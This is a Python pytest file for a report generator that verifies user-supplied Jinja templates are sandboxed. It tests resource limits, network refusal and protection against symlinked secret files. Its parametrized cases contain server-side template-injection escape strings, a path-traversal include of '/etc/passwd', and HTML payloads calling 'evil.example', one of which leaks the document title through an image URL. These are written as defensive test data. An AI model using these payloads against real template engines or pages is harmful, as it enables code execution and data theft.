"""Templates that are not ours: what they can change, and what stops them."""

import os
import pickle
import subprocess
import sys
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from time import perf_counter

import pytest
from _pytest.mark import ParameterSet

from readiness.document.template_depth import MAX_DEPTH, MAX_LOOPS
from readiness.document.values import Rendered
from readiness.document.write import Format
from readiness.errors import InputError
from readiness.report.formats import render_here
from readiness.report.model import Report
from readiness.report.render_apart import render_apart
from readiness.theme.theme import Part, Theme
from readiness.time_limit import out_of_time
from tests.program import PATIENCE, ROOT, environment
from tests.report.services import SOBER
from tests.reports import as_page, pdftotext

Reports = Callable[[str], Report]
Own = Callable[..., Theme]


def long(*values: object) -> ParameterSet:
    """Return a case of the long form: starting a process for each takes a while."""
    return pytest.param(*values, marks=pytest.mark.long)


HERE_AND_APART = pytest.mark.parametrize("render", [render_here, long(render_apart)])
SHORT = replace(SOBER, parts=(Part.SUMMARY, Part.PLAN, Part.OPEN, Part.METHOD))


@pytest.fixture
def own(tmp_path: Path) -> Own:
    """Return a short theme with templates of one's own, given by name."""

    def with_templates(**templates: str) -> Theme:
        for name, text in templates.items():
            path = tmp_path / name.replace("__", "/").replace("_css", ".css").replace("_html", ".html.j2")
            path.parent.mkdir(exist_ok=True)
            path.write_text(text, encoding="utf-8")
        return replace(SHORT, templates=tmp_path)

    return with_templates


LEAD = '{% extends "shipped/section.html.j2" %}{% block before %}<p>Ours: {{ document.title }}.</p>{% endblock %}'


LOOP = "{% for i in range(9999) %}" * 3 + "{% endfor %}" * 3


def test_a_render_that_nobody_waits_for_stops_itself(own: Own, report: Reports) -> None:
    task = (os.getpid(), 1.0, render_here, Format.HTML, report("northside"), own(document_html=LOOP), "en-GB", ())
    done = subprocess.run(
        (sys.executable, "-m", "readiness.report.render_apart"),
        input=pickle.dumps(task),
        env=environment(),
        timeout=PATIENCE,
        check=False,
        capture_output=True,
    )
    assert out_of_time(done.returncode)


def test_a_section_can_be_added_to_and_all_else_stays(own: Own, report: Reports) -> None:
    made = as_page(report("northside"), own(sections__plan_html=LEAD))
    assert "<p>Ours: Northside Community Mental Health Team.</p>" in made
    shipped = as_page(report("northside"), SHORT)
    assert made.partition('<section class="plan"')[0] == shipped.partition('<section class="plan"')[0]
    assert made.count("<tr>") == shipped.count("<tr>")


def test_a_style_sheet_of_ones_own_is_added_in_the_themes_colours(own: Own, report: Reports) -> None:
    theme = own(own_css="h1 { color: var(--warm); }")
    data, told = render_here(Format.HTML, report("northside"), theme)
    assert f"h1 {{ color: {SOBER.warm}; }}" in data.decode()
    assert told == ()


@pytest.mark.parametrize("form", [Format.HTML, *map(long, (Format.MARKDOWN, Format.JSON))])
def test_every_format_is_made_apart_as_it_is_here(form: Format, own: Own, report: Reports) -> None:
    theme = own(sections__plan_html=LEAD)
    assert render_apart(form, report("northside"), theme) == render_here(form, report("northside"), theme)


def test_a_pdf_is_made_apart(own: Own, report: Reports, tmp_path: Path) -> None:
    (tmp_path / "r.pdf").write_bytes(render_apart(Format.PDF, report("northside"), own(sections__plan_html=LEAD))[0])
    assert "Ours: Northside" in pdftotext(tmp_path / "r.pdf")


def test_a_mistake_is_told_from_apart_as_it_is_here(own: Own, report: Reports) -> None:
    theme = own(sections__open_html="{{ document.__class__.__mro__ }}")
    for render in (render_here, render_apart):
        with pytest.raises(InputError) as error:
            render(Format.HTML, report("northside"), theme)
        (problem,) = error.value.problems
        assert problem.place is not None
        assert (problem.place.file, problem.place.line) == (f"{theme.templates}/sections/open.html.j2", 1)
        assert "may not have" in problem.what


@HERE_AND_APART
@pytest.mark.parametrize(
    ("template", "line", "words"),
    [
        ("one\n{% if %}", 2, "Expected an expression"),
        ("one\ntwo\n{{ section.nothing }}", 3, "has no attribute 'nothing'"),
        ("{{ 1 + 'a' }}", 1, "unsupported operand"),
        ("\n{% include 'nowhere.html' %}", 2, 'there is no template "nowhere.html"'),
        ("{% extends '../../etc/passwd' %}", 1, "there is no template"),
        ("{{ document.__class__.__mro__ }}", 1, "may not have"),
        ("{{ ''.__class__.__base__.__subclasses__() }}", 1, "may not have"),
        ("{{ document.title.format.__globals__ }}", 1, "may not have"),
        ("{{ '{0.__class__}'.format(document) }}", 1, "may not have"),
        ("{{ self.__init__.__globals__ }}", 1, "may not have"),
        ("{% set _ = document.update({'title': 'x'}) %}", 1, "may not have"),
        ("{{ lipsum() }}", 1, "is undefined"),
        ("{{ range(1000000) }}", 1, "Range too big"),
        ("{% for a in [1] recursive %}{{ loop([1]) }}{% endfor %}", 1, "without end"),
        (f"one\n{{{{ {'(' * 3_000}1{')' * 3_000} }}}}", 2, "too many things stand inside one another"),
        (f"\n\n{{{{ {'1+' * 5_000}1 }}}}", 3, "too many things stand inside one another"),
        (f"\n{{{{ 0x{'f' * 5_000} }}}}", 2, "this number has too many digits"),
    ],
)
def test_a_mistake_or_an_escape_is_said_with_file_and_line(
    own: Own, report: Reports, template: str, line: int, words: str, render: Callable[..., Rendered]
) -> None:
    theme = own(sections__open_html=template)
    with pytest.raises(InputError) as error:
        render(Format.HTML, report("northside"), theme)
    (problem,) = error.value.problems
    assert problem.place is not None
    assert (problem.place.file, problem.place.line) == (f"{theme.templates}/sections/open.html.j2", line)
    assert words in problem.what


ENDLESS = "{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}"
BOXES = "<div style='display: flex'>" * 40 + "x" + "</div>" * 40


@pytest.mark.parametrize("seconds", [1.5, long(10)])
@pytest.mark.parametrize(("form", "template"), [(Format.HTML, ENDLESS), (Format.PDF, BOXES)], ids=["loop", "boxes"])
def test_what_takes_too_long_is_stopped(own: Own, report: Reports, form: Format, template: str, seconds: float) -> None:
    began = perf_counter()
    with pytest.raises(InputError, match=f"took more than {seconds:g} seconds, and were stopped"):
        render_apart(form, report("northside"), own(sections__open_html=template), deadline=seconds)
    assert perf_counter() - began < 30


def test_things_inside_one_another_are_taken_up_to_the_limits(own: Own, report: Reports) -> None:
    ifs = MAX_DEPTH - MAX_LOOPS - 6  # and what the section itself and the words inside take
    opened, closed = "{% if 1 %}" * ifs, "{% endif %}" * ifs
    for_, endfor = "{% for a in [1] %}" * MAX_LOOPS, "{% endfor %}" * MAX_LOOPS
    template = f"{opened}{for_}<p>Inside {{{{ loop.index }}}}</p>{endfor}{closed}"
    assert b"<p>Inside 1</p>" in render_apart(Format.HTML, report("northside"), own(sections__open_html=template))[0]


def test_a_template_that_is_too_large_is_refused(own: Own, report: Reports) -> None:
    theme = own(sections__open_html="<p>x</p>" * 510_000)
    with pytest.raises(InputError, match=r"sections/open\.html\.j2: This template is larger than 4 MB\. Make"):
        render_apart(Format.HTML, report("northside"), theme)


def test_what_takes_too_much_memory_is_stopped(own: Own, report: Reports) -> None:
    with pytest.raises(InputError, match="need more memory"):
        render_apart(Format.HTML, report("northside"), own(sections__open_html="{{ 'x' * 9000000000 }}"))


def test_a_program_that_ends_without_an_answer_is_said(
    own: Own, report: Reports, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(sys, "executable", "/bin/false")
    with pytest.raises(InputError, match="ended the program"):
        render_apart(Format.HTML, report("northside"), own())


@HERE_AND_APART
def test_the_network_is_refused(own: Own, report: Reports, render: Callable[..., Rendered]) -> None:
    theme = own(sections__open_html='<img alt="x" src="http://127.0.0.1:9/x.png"/>')
    with pytest.raises(InputError, match=r"asks for http://127\.0\.0\.1:9/x\.png"):
        render(Format.PDF, report("northside"), theme)


@HERE_AND_APART
def test_a_picture_of_ones_own_is_shown(
    own: Own, report: Reports, tmp_path: Path, render: Callable[..., Rendered]
) -> None:
    (tmp_path / "dot.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"/>', "utf-8")
    theme = own(sections__plan_html=LEAD.replace("Ours", '<img alt="x" src="dot.svg"/>'))
    assert render(Format.PDF, report("northside"), theme)[0].startswith(b"%PDF")


def test_no_module_of_the_folder_we_stand_in_is_run(
    own: Own, report: Reports, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for module in ("weasyprint", "pickle", "json", "jinja2"):
        (tmp_path / f"{module}.py").write_text("open('ran', 'w').write('x'); raise SystemExit(3)", "utf-8")
    monkeypatch.chdir(tmp_path)
    assert render_apart(Format.MARKDOWN, report("northside"), own(sections__plan_html=LEAD))[0]
    assert not (tmp_path / "ran").exists()


@pytest.mark.parametrize("name", ["link.txt", "own.css", "style.css"])
def test_a_link_leads_nothing_from_outside_into_a_report(report: Reports, tmp_path: Path, name: str) -> None:
    folder = tmp_path / "own"
    folder.mkdir()
    (tmp_path / "secret").write_text("/* top secret */", "utf-8")
    (folder / name).symlink_to(tmp_path / "secret")
    (folder / "sections").mkdir()
    if name == "link.txt":
        (folder / "sections" / "open.html.j2").write_text('{% include "link.txt" %}', "utf-8")
        with pytest.raises(InputError, match="there is no template"):
            render_apart(Format.HTML, report("northside"), replace(SOBER, templates=folder))
    else:
        data = render_apart(Format.HTML, report("northside"), replace(SOBER, templates=folder))[0]
        assert b"top secret" not in data


ASKS = {
    "script": '<script src="https://evil.example/x.js"></script>',
    "inline": "<script>alert(1)</script>",
    "picture": '<img alt="" src="https://evil.example/t.png?{{ document.title }}"/>',
    "handler": '<p onclick="alert(1)">x</p>',
    "style": '<p style="background: url(https://evil.example/x)">x</p>',
    "sheet": "<style>@import url(https://evil.example/x.css);</style>",
    "link": '<link rel="stylesheet" href="https://evil.example/x.css"/>',
    "frame": '<iframe src="data:text/html,x"></iframe>',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example"/>',
    "followed": '<a href="javascript:alert(1)">x</a>',
    "svg": '<svg><image xlink:href="file:///etc/passwd"/></svg>',
}


@pytest.mark.parametrize(
    ("render", "what"),
    [
        (render_apart, "script"),
        *((render_here, what) for what in ASKS),
        *(long(render_apart, what) for what in ASKS if what != "script"),
    ],
)
def test_a_web_page_asks_for_nothing_and_runs_nothing(
    own: Own, report: Reports, render: Callable[..., Rendered], what: str
) -> None:
    with pytest.raises(InputError, match=r"The page asks for .*, and a report asks for nothing"):
        render(Format.HTML, report("northside"), own(sections__open_html=ASKS[what]))


def test_a_web_page_may_show_a_picture_in_itself_and_lead_to_others(own: Own, report: Reports) -> None:
    long = "https://lantern.example/" + "a" * 60
    shown = f'<img alt="" src="data:image/png;base64,AAAA"/><a href="{{{{ "{long}" }}}}">us</a><a href="#plan">plan</a>'
    data = render_apart(Format.HTML, report("northside"), own(sections__open_html=shown))[0]
    assert f'href="{long}"' in data.decode()


@pytest.mark.parametrize("name", ["own.css", "sections/open.html.j2"])
def test_a_file_that_is_not_utf_8_is_said_with_its_name(own: Own, report: Reports, tmp_path: Path, name: str) -> None:
    theme = own(sections__plan_html=LEAD)
    (tmp_path / name).write_bytes(b"caf\xe9")
    with pytest.raises(InputError, match=rf"{name}.*UTF-8"):
        render_apart(Format.HTML, report("northside"), theme)


def test_colours_of_ones_own_may_have_names(own: Own, report: Reports) -> None:
    theme = own(own_css=":root { --brand: #c00 } h1 { color: var(--brand) }")
    assert b"var(--brand)" in render_apart(Format.HTML, report("northside"), theme)[0]


@HERE_AND_APART
def test_a_link_without_its_target_says_which(own: Own, report: Reports, render: Callable[..., Rendered]) -> None:
    theme = own(sections__open_html="<p>Nothing here.</p>")
    with pytest.raises(InputError, match=r"open.*A link leads to an id that your templates left out"):
        render(Format.PDF, report("northside"), theme)


def test_what_a_style_sheet_gets_wrong_is_told(own: Own, report: Reports) -> None:
    _, told = render_apart(Format.PDF, report("northside"), own(own_css="h1 { colour: red }"))
    assert any("colour" in line for line in told)


def test_a_mistake_of_ours_in_there_is_a_bug_and_no_mistake_of_theirs(
    own: Own, report: Reports, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    broken = tmp_path / "broken"
    broken.mkdir()
    (broken / "sitecustomize.py").write_text(
        "import readiness.report.formats as formats\nformats.write = lambda *_: 1 / 0\n",
        "utf-8",
    )
    monkeypatch.setenv("PYTHONPATH", f"{broken}{os.pathsep}{ROOT}")
    with pytest.raises(RuntimeError, match="ZeroDivisionError"):
        render_apart(Format.HTML, report("northside"), own(sections__plan_html=LEAD))
